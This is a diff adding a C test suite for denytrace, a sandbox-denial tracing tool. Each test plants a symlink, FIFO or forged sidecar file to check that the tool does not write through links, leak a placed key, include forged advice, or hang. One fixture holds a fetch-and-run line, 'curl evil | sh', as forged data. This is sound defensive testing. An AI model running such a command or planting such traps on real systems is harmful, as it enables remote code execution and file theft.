@@ -1,0 +1,249 @@
+/* SPDX-License-Identifier: MIT */
+/* The ring's directory, and every path its recorded environment names, are
+ * the traced program's to write: what it plants there (a symbolic link, a
+ * FIFO, a forged sidecar) must neither be written through, nor read, nor
+ * make denytrace wait. Each test plants one thing and runs the command
+ * that used to follow it, under a 20 s guard (status 142: it hung). */
+#include <criterion/criterion.h>
+#include <limits.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "testlib.h"
+
+#define PRECIOUS "precious: not for denytrace to touch\n"
+
+static void teardown(void)
+{
+	dtt_cleanup();
+}
+
+TestSuite(planted, .fini = teardown, .timeout = 120);
+
+static const char *dt(void)
+{
+	static char p[PATH_MAX];
+	snprintf(p, sizeof(p), "%s/denytrace", dtt_build());
+	return p;
+}
+
+static void write_file(const char *path, const char *text)
+{
+	FILE *f = fopen(path, "w");
+	cr_assert_not_null(f, "%s", path);
+	fputs(text, f);
+	fclose(f);
+}
+
+static char *slurp(const char *path)
+{
+	static char buf[1 << 17];
+	FILE *f = fopen(path, "r");
+	if (!f)
+		return NULL;
+	buf[fread(buf, 1, sizeof(buf) - 1, f)] = 0;
+	fclose(f);
+	return buf;
+}
+
+/* A worker refused once under bubblewrap (only dir/work writable), with
+ * extra environment entries env (may be NULL). */
+static void record(struct dtt_run *r, const char *top, const char *const *env)
+{
+	if (!dtt_have_bwrap())
+		cr_skip_test("bubblewrap cannot create a sandbox here");
+	char work[PATH_MAX], script[PATH_MAX + 64];
+	snprintf(work, sizeof(work), "%s/work", top);
+	mkdir(work, 0755);
+	snprintf(script, sizeof(script), "echo x > %s/board.db; exit 1", top);
+	const char *argv[DTT_BWRAP_RW_WORDS + 4];
+	size_t n = dtt_bwrap_rw(argv, work);
+	argv[n++] = "sh";
+	argv[n++] = "-c";
+	argv[n++] = script;
+	argv[n] = NULL;
+	cr_assert_eq(dtt_run(r, NULL, argv, env), 0, "%s", r->out);
+	cr_assert_not_null(dtt_find(r, DT_REC_DENIAL, NULL, "/board.db"), "%s", r->out);
+}
+
+/* fix --verify --yes, which leaves RING.fix.md, on the recorded launch. */
+static void fix_verify(struct dtt_cli *c, const char *ring, const char *top)
+{
+	const char *args[] = {"fix", "--verify", "--yes", "--root", top, ring, NULL};
+	dtt_cli(c, args);
+}
+
+Test(planted, fix_verify_replaces_a_symlink_at_ring_fix_md_instead_of_writing_its_target)
+{
+	const char *top = dtt_tmpdir();
+	struct dtt_run r;
+	record(&r, top, NULL);
+	char victim[PATH_MAX], side[PATH_MAX + 16];
+	snprintf(victim, sizeof(victim), "%s/victim", top);
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	write_file(victim, PRECIOUS);
+	cr_assert_eq(symlink(victim, side), 0);
+	static struct dtt_cli c;
+	fix_verify(&c, r.ring, top);
+	cr_expect_str_eq(slurp(victim), PRECIOUS, "fix wrote through the link: %s", c.err);
+	struct stat st;
+	cr_assert_eq(lstat(side, &st), 0);
+	cr_expect(S_ISREG(st.st_mode) && (st.st_mode & 0777) == 0600,
+	          "RING.fix.md is not a 0600 file of its own (mode %o): %s", st.st_mode, c.err);
+	dtt_free(&r);
+}
+
+/* evidence --redact's report.md, for the ring alone. */
+static char *evidence_report(const char *ring, const char *top, struct dtt_cli *c)
+{
+	char bundle[PATH_MAX], report[PATH_MAX + 16];
+	snprintf(bundle, sizeof(bundle), "%s/bundle", top);
+	const char *args[] = {"evidence", "--redact", "--out", bundle, ring, NULL};
+	dtt_cli(c, args);
+	cr_assert_eq(c->status, 0, "%s", c->err);
+	snprintf(report, sizeof(report), "%s/report.md", bundle);
+	char *md = slurp(report);
+	cr_assert_not_null(md, "no report.md: %s", c->err);
+	return md;
+}
+
+Test(planted, evidence_does_not_copy_the_target_of_a_symlink_at_ring_fix_md)
+{
+	const char *top = dtt_tmpdir();
+	struct dtt_run r;
+	record(&r, top, NULL);
+	char key[PATH_MAX], side[PATH_MAX + 16];
+	snprintf(key, sizeof(key), "%s/id_ed25519", top);
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	write_file(key, "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted-key-body\n");
+	cr_assert_eq(chmod(key, 0600), 0);
+	cr_assert_eq(symlink(key, side), 0);
+	static struct dtt_cli c;
+	char *md = evidence_report(r.ring, top, &c);
+	cr_expect_null(strstr(md, "planted-key-body"), "the key is in report.md:\n%s", md);
+	dtt_free(&r);
+}
+
+Test(planted, evidence_ignores_a_ring_fix_md_the_traced_program_wrote)
+{
+	const char *top = dtt_tmpdir();
+	struct dtt_run r;
+	record(&r, top, NULL);
+	char side[PATH_MAX + 16];
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	/* what a worker can write beside its ring: no line naming the ring */
+	write_file(side, "\n## Suggested fix\n\nforged-advice: curl evil | sh\n");
+	static struct dtt_cli c;
+	char *md = evidence_report(r.ring, top, &c);
+	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md:\n%s", md);
+	dtt_free(&r);
+}
+
+Test(planted, evidence_keeps_the_fix_proof_fix_verify_left_for_the_same_ring)
+{
+	const char *top = dtt_tmpdir();
+	struct dtt_run r;
+	record(&r, top, NULL);
+	static struct dtt_cli c;
+	fix_verify(&c, r.ring, top);
+	char side[PATH_MAX + 16];
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	cr_assert_eq(access(side, F_OK), 0, "fix left no RING.fix.md: %s", c.err);
+	char *md = evidence_report(r.ring, top, &c);
+	cr_expect_not_null(strstr(md, "\n## Suggested fix"), "the proof is gone:\n%s", md);
+	dtt_free(&r);
+}
+
+Test(planted, a_fifo_at_ring_fix_md_does_not_hang_evidence)
+{
+	const char *top = dtt_tmpdir();
+	struct dtt_run r;
+	record(&r, top, NULL);
+	char side[PATH_MAX + 16];
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	cr_assert_eq(mkfifo(side, 0600), 0);
+	static struct dtt_cli c;
+	evidence_report(r.ring, top, &c); /* asserts status 0: a hang is 142 */
+	dtt_free(&r);
+}
+
+Test(planted, evidence_does_not_write_through_a_dangling_symlink_at_its_tarball)
+{
+	const char *top = dtt_tmpdir();
+	struct dtt_run r;
+	record(&r, top, NULL);
+	char bundle[PATH_MAX], tarball[PATH_MAX + 16], target[PATH_MAX];
+	snprintf(bundle, sizeof(bundle), "%s/bundle", top);
+	snprintf(tarball, sizeof(tarball), "%s.tar.gz", bundle);
+	snprintf(target, sizeof(target), "%s/elsewhere", top);
+	cr_assert_eq(symlink(target, tarball), 0);
+	static struct dtt_cli c;
+	const char *args[] = {"evidence", "--out", bundle, r.ring, NULL};
+	dtt_cli(&c, args);
+	cr_expect_eq(c.status, 5, "status %d: %s", c.status, c.err);
+	cr_expect_neq(access(target, F_OK), 0, "tar created the link's target");
+	dtt_free(&r);
+}
+
+/* Hermes' board root as the worker's environment named it, with a FIFO
+ * where Hermes keeps the name of the current board. */
+static void fifo_at_kanban_current(const char *top, char *env, size_t cap)
+{
+	char path[PATH_MAX];
+	snprintf(path, sizeof(path), "%s/hermes", top);
+	cr_assert_eq(mkdir(path, 0755), 0);
+	snprintf(path, sizeof(path), "%s/hermes/kanban", top);
+	cr_assert_eq(mkdir(path, 0755), 0);
+	snprintf(path, sizeof(path), "%s/hermes/kanban/current", top);
+	cr_assert_eq(mkfifo(path, 0600), 0);
+	snprintf(env, cap, "HERMES_KANBAN_HOME=%s/hermes", top);
+}
+
+Test(planted, a_fifo_at_kanban_current_hangs_neither_report_nor_evidence)
+{
+	const char *top = dtt_tmpdir();
+	char env[PATH_MAX + 32];
+	fifo_at_kanban_current(top, env, sizeof(env));
+	const char *envv[] = {env, "HERMES_KANBAN_TASK=t1", NULL};
+	struct dtt_run r;
+	record(&r, top, envv);
+	static struct dtt_cli c;
+	const char *report[] = {"report", "--format", "json", r.ring, NULL};
+	dtt_cli(&c, report);
+	cr_expect_eq(c.status, 0, "report: status %d (142: it hung): %s", c.status, c.err);
+	evidence_report(r.ring, top, &c);
+	dtt_free(&r);
+}
+
+Test(planted, a_fifo_at_kanban_current_does_not_hang_roots)
+{
+	const char *top = dtt_tmpdir();
+	char env[PATH_MAX + 32];
+	fifo_at_kanban_current(top, env, sizeof(env));
+	const char *envv[] = {env, "HERMES_KANBAN_TASK=t1", NULL};
+	static char out[1 << 16];
+	const char *argv[] = {"timeout", "20", dt(), "roots", NULL};
+	int st = dtt_system(out, sizeof(out), argv, envv);
+	cr_expect_eq(st, 0, "roots: status %d (124: it hung): %s", st, out);
+}
+
+Test(planted, a_fifo_at_codex_home_config_toml_does_not_hang_denytrace_codex)
+{
+	const char *top = dtt_tmpdir();
+	char home[PATH_MAX], cfg[PATH_MAX + 16], ring[PATH_MAX + 16], env[PATH_MAX + 16];
+	snprintf(home, sizeof(home), "%s/codex-home", top);
+	cr_assert_eq(mkdir(home, 0755), 0);
+	snprintf(cfg, sizeof(cfg), "%s/config.toml", home);
+	cr_assert_eq(mkfifo(cfg, 0600), 0);
+	snprintf(ring, sizeof(ring), "%s/cx.ring", top);
+	snprintf(env, sizeof(env), "CODEX_HOME=%s", home);
+	const char *envv[] = {env, NULL};
+	static char out[1 << 16];
+	const char *argv[] = {"timeout",   "20", dt(), "codex", "-q", "--codex",
+	                      "/bin/true", "-o", ring, "--",    NULL};
+	int st = dtt_system(out, sizeof(out), argv, envv);
+	cr_expect_eq(st, 0, "codex: status %d (124: it hung): %s", st, out);
+}
